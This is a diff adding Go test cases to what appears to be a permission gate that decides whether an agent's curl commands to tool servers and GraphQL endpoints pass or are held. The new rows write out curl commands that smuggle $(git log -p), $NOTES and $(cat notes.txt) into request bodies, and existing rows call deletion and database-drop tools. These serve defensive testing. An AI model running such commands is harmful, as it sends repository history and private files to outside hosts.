@@ -161,6 +161,13 @@ func TestToolCallCommandsAreJudgedAsTheCall(t *testing.T) {
 		{"http", `curl -s ` + url + ` --json '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"acme_project_list","arguments":{}}}' | jq .`, "pass"},
 		{"http", `curl -s -X POST ` + url + ` -d '[{"jsonrpc":"2.0","id":1,"method":"tools/list"},{"jsonrpc":"2.0","id":2,"method":"prompts/list"}]'`, "pass"},
 		{"http", `curl -s -X POST ` + url + ` -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"acme_project_delete","arguments":{"id":"p1"}}}'`, "held"},
+		// A body known only at run time may carry anything to the other
+		// host, whatever method it names: a read's arguments filled by a
+		// substitution or a variable, inline or as the next word.
+		{"http", `curl -s -X POST ` + url + ` -d "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"acme_project_list\",\"arguments\":{\"q\":\"$(git log -p)\"}}}"`, "held"},
+		{"http", `curl -s ` + url + ` --data="{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"params\":{\"cursor\":\"$NOTES\"}}"`, "held"},
+		{"http", `curl -s https://api.example.com/graphql -d "{\"query\":\"query { viewer { login } } # $(cat notes.txt)\"}"`, "held"},
+		{"http", `curl -s https://api.example.com/graphql -d '{"query":"query { viewer { login } }"}'`, "pass"},
 		{"http", `curl -s -X POST ` + url + ` -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"a@example.org"}}}'`, "held"},
 		{"http", `curl -s -X POST ` + url + ` -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"frob_widget"}}'`, "held"},
 		{"http", `curl -s -X POST ` + url + ` -d '[{"jsonrpc":"2.0","id":1,"method":"tools/list"},{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"drop_database"}}]'`, "held"},
